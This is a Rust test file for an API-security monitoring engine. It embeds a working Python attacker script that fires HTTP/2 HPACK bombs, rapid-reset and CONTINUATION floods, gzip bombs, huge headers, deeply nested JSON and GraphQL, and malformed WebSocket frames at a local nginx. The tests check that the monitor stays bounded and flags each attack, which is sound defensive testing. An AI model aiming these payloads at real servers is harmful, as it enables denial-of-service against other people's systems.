//! Clients that mean harm, against servers that we did not write: what they send stays within its caps and is noted, and the
//! calls of others at the same servers are counted exactly.

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr};

use apisec_engine::ndjson::NdjsonCall;
use apisec_tests::script::{PYTHON, Script};
use apisec_tests::server::{Nginx, NginxSetup, free_port};
use apisec_tests::watch::{Watch, mark};

use super::dialects::CHAT;
use super::{can_run, run, tally};

/// Does one kind of harm, and says `done` when its connection has ended or everything was sent.
const ATTACKER: Script = Script::python(
    "attacker.py",
    r#"
import gzip, socket, sys
kind, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
connection = socket.create_connection(("127.0.0.1", port))
connection.settimeout(20)
def send(*parts):
    try: connection.sendall(b"".join(parts))
    except OSError: return False
    return True
def drain():
    try:
        while connection.recv(65536): pass
    except OSError: pass
def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
def text(value, prefix=127):
    length, out = len(value), b""
    if length < prefix: return bytes([length]) + value
    length -= prefix
    while length > 127:
        out += bytes([length & 127 | 128]); length >>= 7
    return bytes([prefix]) + out + bytes([length]) + value
def head(name):
    return b"\x82\x86\x01" + text(b"attacked") + b"\x04" + text(f"{path}/{name}".encode())
def preface():
    send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, 0))
def post(fields, body):
    send(f"POST {path}/{kind} HTTP/1.1\r\nHost: attacked\r\nConnection: close\r\n{fields}Content-Length: {len(body)}\r\n\r\n".encode(), body)
    drain()

if kind == "hpack-bomb":
    # One entry of 4,000 bytes, named 64,000 times: 256 MB of fields from 68 KB.
    preface()
    send(frame(1, 5, 1, head(kind) + b"\x40\x01x" + text(b"a" * 4000)))
    bomb = head(kind) + b"\xbe" * 64000
    send(frame(1, 1, 3, bomb[:16000]), *[frame(9, 4 if at + 16000 >= len(bomb) else 0, 3, bomb[at:at + 16000]) for at in range(16000, len(bomb), 16000)])
elif kind == "rapid-reset":
    preface()
    for stream in range(1, 4000, 2):
        if not send(frame(1, 5, stream, head(kind)), frame(3, 0, stream, b"\0\0\0\x08")): break
elif kind == "continuation-flood":
    preface()
    send(frame(1, 1, 1, head(kind)))
    for n in range(20000):
        if not send(frame(9, 0, 1, b"\x00\x01x" + text(b"y" * 1000))): break
elif kind == "frame-lengths":
    preface()
    send(frame(1, 4, 1, head(kind)), b"\xff\xff\xff\x00\x00\x00\x00\x00\x01", b"z" * 100000)
elif kind == "long-head":
    send(f"GET {path}/{kind} HTTP/1.1\r\nHost: attacked\r\n".encode(), b"X-Long: " + b"a" * 1000000 + b"\r\n\r\n")
elif kind == "many-fields":
    send(f"GET {path}/{kind} HTTP/1.1\r\nHost: attacked\r\n".encode(), *[b"X-%d: a\r\n" % n for n in range(80000)], b"\r\n")
elif kind == "gzip-bomb":
    post("Content-Type: application/json\r\nContent-Encoding: gzip\r\n", gzip.compress(b"[" + b"0," * 20000000 + b"0]"))
elif kind == "nested-graphql":
    post("Content-Type: application/json\r\n", b'{"query":"' + b"{a" * 3500)
elif kind == "nested-json":
    post("Content-Type: application/json\r\n", b"[" * 8000)
elif kind == "invalid-utf8":
    send(b"GET " + path.encode() + b"/" + kind.encode() + b"/\xff\xfe\xc3\x28\x1b[31m HTTP/1.1\r\nHost: \xff\xff\r\n\r\n")
elif kind == "length-of-64-bits":
    send(f"GET {path}/{kind} HTTP/1.1\r\nHost: attacked\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
         "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    assert b"101" in connection.recv(4096)
    send(b"\x82\xff\x7f\xff\xff\xff\xff\xff\xff\xff" + b"mask" + b"z" * 65536)
else: raise ValueError(kind)
if not kind.startswith("rapid"): connection.settimeout(3)
drain()
print("done")
"#,
);

/// What an attacker may make us hold beyond what we held before: what the decoder may buffer, and the ring's pages.
const ROOM: u64 = 64 << 20;

/// nginx in clear on two ports: HTTP/1, and HTTP/2 known before.
fn nginx() -> (Nginx, u16) {
    let port = free_port(IpAddr::V4(Ipv4Addr::LOCALHOST)).unwrap();
    let http =
        format!("server {{ listen 127.0.0.1:{port} http2; location / {{ return 200 '{{\"ok\":true}}'; }} }}");
    (Nginx::start(NginxSetup { http: &http, ..NginxSetup::default() }).unwrap(), port)
}

/// All of these at once, while `honest` goes on.
fn attack(kinds: &[&str], port: u16, mark: &str, honest: impl FnOnce()) {
    std::thread::scope(|scope| {
        for kind in kinds {
            scope.spawn(|| ATTACKER.run(&[kind, &port.to_string(), mark]).unwrap());
        }
        honest();
    });
}

/// What was seen of the server that answered `/honest`.
fn of_the_server(calls: Vec<NdjsonCall>, mark: &str) -> Vec<NdjsonCall> {
    let honest = format!("{mark}/honest");
    let server = calls.iter().find(|call| call.path == honest).expect("honest calls").dst.clone();
    calls.into_iter().filter(|call| call.dst == server).collect()
}

/// Calls with this in their path, each with its notes.
fn noted(calls: &[NdjsonCall], name: &str) -> BTreeMap<String, usize> {
    let of = calls.iter().filter(|call| call.path.contains(name));
    tally(of.map(|call| format!("{} {}", call.status.unwrap_or_default(), call.notes.join(" "))))
}

/// Some call of this kind bears the note.
#[track_caller]
fn is_noted(calls: &[NdjsonCall], name: &str, note: &str) {
    let noted = noted(calls, name);
    assert!(noted.keys().any(|notes| notes.contains(note)), "{name}: {noted:?}");
}

/// The honest calls are those that nginx logged.
#[track_caller]
fn honest_calls_are_exact(nginx: Nginx, calls: &[NdjsonCall], asked: usize) {
    let log = nginx.finish().unwrap();
    let logged = log.iter().filter(|line| line.uri.ends_with("/honest"));
    let logged = tally(logged.map(|line| format!("{} {}", line.uri, line.status)));
    let honest = calls.iter().filter(|call| call.path.ends_with("/honest"));
    let seen = tally(honest.map(|call| format!("{} {}", call.path, call.status.unwrap_or_default())));
    assert_eq!(seen, logged);
    assert_eq!(seen.values().sum::<usize>(), asked);
}

#[test]
fn floods_and_bombs_of_http2() {
    if !can_run("hostile::floods_and_bombs_of_http2", &["nginx", "h2load", PYTHON]) {
        return;
    }
    let mark = mark("hostile2");
    let (nginx, port) = nginx();
    let watch = Watch::calls().unwrap();
    let before = watch.resident().unwrap();
    attack(&["hpack-bomb", "rapid-reset", "continuation-flood", "frame-lengths"], port, &mark, || {
        let url = format!("http://127.0.0.1:{port}{mark}/honest");
        for _ in 0..3 {
            run("h2load", &["-n", "1000", "-c", "2", "-m", "20", &url]);
        }
    });
    let grown = watch.resident().unwrap().saturating_sub(before);
    let calls = of_the_server(watch.end_with_calls("").unwrap(), &mark);
    is_noted(&calls, "hpack-bomb", "head-truncated");
    is_noted(&calls, "rapid-reset", "reset");
    is_noted(&calls, "continuation-flood", "head-truncated");
    assert_eq!(calls.iter().filter(|call| call.path.contains("frame-lengths")).count(), 1);
    honest_calls_are_exact(nginx, &calls, 3000);
    assert!(grown < ROOM, "{grown} bytes more");
}

#[test]
fn long_heads_and_bombs_of_http1() {
    if !can_run("hostile::long_heads_and_bombs_of_http1", &["nginx", "ab", PYTHON]) {
        return;
    }
    let mark = mark("hostile1");
    let (nginx, _) = nginx();
    let chat = CHAT.serve(&["deflate"]).unwrap();
    let port = nginx.address().port();
    let watch = Watch::calls().unwrap();
    let before = watch.resident().unwrap();
    let kinds = ["long-head", "many-fields", "gzip-bomb", "nested-graphql", "nested-json", "invalid-utf8"];
    attack(&kinds, port, &mark, || {
        let url = format!("{}{mark}/honest", nginx.url());
        for _ in 0..3 {
            run("ab", &["-q", "-k", "-n", "1000", "-c", "4", &url]);
        }
    });
    attack(&["length-of-64-bits"], chat.address().port(), &mark, || {});
    let grown = watch.resident().unwrap().saturating_sub(before);
    let calls = watch.end_with_calls(&mark).unwrap();
    is_noted(&calls, "long-head", "head-truncated");
    is_noted(&calls, "many-fields", "head-truncated");
    is_noted(&calls, "length-of-64-bits", "request-cut");
    assert!(calls.iter().any(|call| call.path.contains("/invalid-utf8/%FF%FE%C3(%1B%5B31m")), "{calls:?}");
    let calls = of_the_server(calls, &mark);
    for kind in kinds {
        assert_eq!(calls.iter().filter(|call| call.path.contains(kind)).count(), 1, "{kind}");
    }
    honest_calls_are_exact(nginx, &calls, 3000);
    assert!(grown < ROOM, "{grown} bytes more");
}
